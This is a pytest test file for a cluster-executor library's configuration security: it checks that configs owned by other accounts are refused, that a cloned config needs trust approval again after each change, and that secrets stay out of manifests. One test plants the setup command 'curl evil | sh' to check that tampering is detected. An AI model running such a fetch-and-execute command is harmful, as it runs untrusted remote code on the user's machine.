"""Configuration files are inputs from other people until proven ours (issue 16).

A file owned by another account (the unprivileged ``nobody``, chowned to it as root) or writable by group or
others is refused, naming it; a cloned repository's ``./clustrix-futures.yaml`` (ours, but written by someone
else) is read only after ``clustrix-futures trust`` approved its content, and again after each change. No
secret reaches a run's manifest: a real run over the sshd of tests/infra with a passphrase-protected key and
a secret ``env`` value is read back for both.
"""

from __future__ import annotations

import json
import os
import pwd
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from support import workloads
from support.infra import ssh_options

from clustrix_futures import ClusterPoolExecutor, ConfigError, config
from clustrix_futures.config_files import trust_store

ROOT = Path(__file__).resolve().parents[1]
PROFILE = "profiles:\n  cloned:\n    backend: local\n    setup: ['echo hi']\n"
WAIT = 120


@pytest.fixture(autouse=True)
def own_config_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private configuration directory (the trust store lives there), and no configuration named."""
    home = tmp_path / "xdg"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    monkeypatch.delenv(config.CONFIG_ENV, raising=False)
    monkeypatch.delenv(config.PROFILE_ENV, raising=False)
    return home


def trust_cli(path: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``clustrix-futures trust PATH``, as a separate process with this checkout's code."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "clustrix_futures.tools.cli", "trust", str(path)], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=60)


def refusal(profile: str = "cloned") -> str:
    with pytest.raises(ConfigError) as caught:
        config.resolve(profile, None, None, {})
    return str(caught.value)


def test_a_foreign_config_in_the_current_directory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    planted = tmp_path / "clustrix-futures.yaml"
    planted.write_text(PROFILE)
    nobody = pwd.getpwnam("nobody")
    os.chown(planted, nobody.pw_uid, nobody.pw_gid)
    monkeypatch.chdir(tmp_path)
    message = refusal()
    assert str(planted) in message and "owned by nobody" in message
    monkeypatch.setenv(config.CONFIG_ENV, str(planted))  # naming it does not make another account's file ours
    assert "owned by nobody" in refusal()


def test_a_foreign_user_config_file_is_refused(own_config_dir: Path) -> None:
    path = own_config_dir / "clustrix-futures" / "config.yaml"
    path.parent.mkdir(parents=True)
    path.write_text(PROFILE)
    os.chown(path, pwd.getpwnam("nobody").pw_uid, -1)
    assert str(path) in refusal() and "owned by nobody" in refusal()


@pytest.mark.parametrize("mode", [0o664, 0o646])
def test_a_config_file_writable_by_group_or_others_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                              mode: int) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(PROFILE)
    path.chmod(mode)
    monkeypatch.setenv(config.CONFIG_ENV, str(path))
    message = refusal()
    assert str(path) in message and f"chmod go-w {path}" in message


def clone(tmp_path: Path) -> Path:
    """A repository holding a clustrix-futures.yaml, cloned with git (the clone is ours)."""
    origin = tmp_path / "origin"
    origin.mkdir()
    (origin / "clustrix-futures.yaml").write_text(PROFILE)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(origin)], check=True)
    subprocess.run([*git, "-C", str(origin), "add", "."], check=True)
    subprocess.run([*git, "-C", str(origin), "commit", "-q", "-m", "config"], check=True)
    subprocess.run(["git", "clone", "-q", str(origin), str(tmp_path / "clone")], check=True)
    return tmp_path / "clone"


def test_a_cloned_config_is_read_only_once_trusted_and_again_after_a_change(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, own_config_dir: Path) -> None:
    repo = clone(tmp_path)
    local = repo / "clustrix-futures.yaml"
    assert local.stat().st_uid == os.getuid()
    monkeypatch.chdir(repo)
    message = refusal()
    assert f"clustrix-futures trust {local}" in message and "not been approved" in message

    done = trust_cli(local, repo)
    assert done.returncode == 0, done.stderr
    assert f"trusted {local}" in done.stdout and "profiles cloned" in done.stdout
    store = trust_store()
    assert stat.S_IMODE(store.stat().st_mode) == 0o600 and stat.S_IMODE(store.parent.stat().st_mode) == 0o700
    assert config.resolve("cloned", None, None, {})["setup"] == ["echo hi"]

    local.write_text(PROFILE.replace("echo hi", "curl evil | sh"))
    message = refusal()
    assert "has changed since it was approved" in message and f"clustrix-futures trust {local}" in message
    assert trust_cli(local, repo).returncode == 0
    assert config.resolve("cloned", None, None, {})["setup"] == ["curl evil | sh"]


def test_naming_the_local_file_trusts_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = clone(tmp_path)
    monkeypatch.chdir(repo)
    monkeypatch.setenv(config.CONFIG_ENV, str(repo / "clustrix-futures.yaml"))
    assert config.resolve("cloned", None, None, {})["setup"] == ["echo hi"]


def test_trust_refuses_a_foreign_file_and_a_store_others_can_write(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    repo = clone(tmp_path)
    local = repo / "clustrix-futures.yaml"
    os.chown(local, pwd.getpwnam("nobody").pw_uid, -1)
    done = trust_cli(local, repo)
    assert done.returncode == 2 and "owned by nobody" in done.stderr
    os.chown(local, os.getuid(), -1)
    assert trust_cli(local, repo).returncode == 0
    trust_store().chmod(0o666)  # anyone could approve anything: the store itself is refused
    monkeypatch.chdir(repo)
    assert str(trust_store()) in refusal()


def test_trust_refuses_a_file_that_is_not_a_configuration(tmp_path: Path) -> None:
    path = tmp_path / "clustrix-futures.yaml"
    path.write_text("profiles: [a, b]\n")
    done = trust_cli(path, tmp_path)
    assert done.returncode == 2 and str(path) in done.stderr and "'profiles' must map" in done.stderr
    assert not trust_store().exists()


# ---------------------------------------------------------------- no secrets at rest

PASSPHRASE = "correct-horse-battery-9"
SECRET_VALUE = "tok-5f0e1d-secret"


def encrypted_copy(key: str, directory: Path) -> str:
    """The test account's key (so it is authorized), protected by :data:`PASSPHRASE`: PKCS#8 with PBES2, which
    needs no bcrypt (OpenSSH's own format would), so ``ssh-keygen -N`` cannot make it here."""
    import asyncssh

    copy = directory / "encrypted_key"
    exported = asyncssh.read_private_key(key).export_private_key("pkcs8-pem", PASSPHRASE, cipher_name="aes256-cbc",
                                                                 hash_name="sha256", pbe_version=2)
    copy.write_bytes(exported)
    copy.chmod(0o600)
    with pytest.raises(asyncssh.KeyImportError, match="Passphrase must be specified"):
        asyncssh.read_private_key(str(copy))
    return str(copy)


def test_the_manifest_holds_no_passphrase_and_no_env_value(sshd: dict[str, str], tmp_path: Path) -> None:
    options: dict[str, Any] = {**ssh_options(sshd), "client_keys": [encrypted_copy(sshd["CF_SSH_KEY"], tmp_path)],
                               "passphrase": PASSPHRASE, "env": {"API_TOKEN": SECRET_VALUE}, "keep_files": True}
    with ClusterPoolExecutor(backend="ssh", **options) as ex:
        assert ex.submit(workloads.square, 7).result(WAIT) == 49
        run_dir = ex.run_dir
    assert run_dir is not None
    manifest = Path(run_dir, "manifest.json").read_bytes()
    assert PASSPHRASE.encode() not in manifest and SECRET_VALUE.encode() not in manifest
    recorded = json.loads(manifest)["options"]
    assert recorded["env_names"] == ["API_TOKEN"] and "passphrase" not in recorded and "env" not in recorded
    for path in Path(run_dir).rglob("*"):  # nor any other file of the run
        if path.is_file():
            data = path.read_bytes()
            assert PASSPHRASE.encode() not in data and SECRET_VALUE.encode() not in data, path

    attach = {k: options[k] for k in ("host", "port", "username", "client_keys", "known_hosts", "passphrase")}
    with pytest.raises(ConfigError, match="API_TOKEN"):  # its value must be given again
        ClusterPoolExecutor.attach(run_dir, backend="ssh", **attach)
    with ClusterPoolExecutor.attach(run_dir, backend="ssh", env={"API_TOKEN": SECRET_VALUE}, **attach) as again:
        assert [f.result(WAIT) for f in again.futures] == [49]
    subprocess.run(["rm", "-rf", run_dir], check=False)


def test_a_rejected_passphrase_is_not_echoed() -> None:
    for bad in (987654321, ["hunter2-secret"]):
        with pytest.raises(ConfigError) as caught:
            config.resolve(None, "ssh", None, {"host": "h", "passphrase": bad})
        assert "passphrase" in str(caught.value) and str(bad) not in str(caught.value)
        assert "hunter2" not in repr(caught.value) and "987654321" not in repr(caught.value)


def test_the_manifest_keeps_secret_references_but_no_literal_env_value() -> None:
    reference = {"secret": "s3-credentials", "key": "access-key"}
    recorded = config.manifest_options({"passphrase": PASSPHRASE, "env": {"KEY": reference, "TOKEN": SECRET_VALUE}})
    assert recorded == {"env_names": ["KEY", "TOKEN"], "env": {"KEY": reference}}
    settings = config.Settings("kubernetes", None, config.validate_options({"env": {"TOKEN": "given-again"}}))
    config.adopt_manifest(settings, {"backend": "kubernetes", "options": recorded})
    assert settings["env"] == {"KEY": reference, "TOKEN": "given-again"} and config.missing_env(settings, {
        "options": recorded}) == []


def test_the_settings_repr_hides_secrets() -> None:
    settings = config.resolve(None, "ssh", None, {"host": "h", "passphrase": PASSPHRASE, "env": {"T": SECRET_VALUE}})
    assert PASSPHRASE not in repr(settings) and SECRET_VALUE not in repr(settings) and "'host': 'h'" in repr(settings)


def test_a_rejected_env_value_is_not_echoed() -> None:
    with pytest.raises(ConfigError) as caught:
        config.resolve(None, "local", None, {"env": {"TOKEN": SECRET_VALUE, "N": 3}})
    assert "'env'" in str(caught.value) and SECRET_VALUE not in str(caught.value)


def test_a_wrong_passphrase_is_not_echoed(sshd: dict[str, str], tmp_path: Path) -> None:
    options = {**ssh_options(sshd), "client_keys": [encrypted_copy(sshd["CF_SSH_KEY"], tmp_path)],
               "passphrase": "wrong-passphrase-77"}
    with pytest.raises(ConfigError) as caught:
        ClusterPoolExecutor(backend="ssh", **options)
    assert "wrong-passphrase-77" not in str(caught.value) and "passphrase" in str(caught.value)
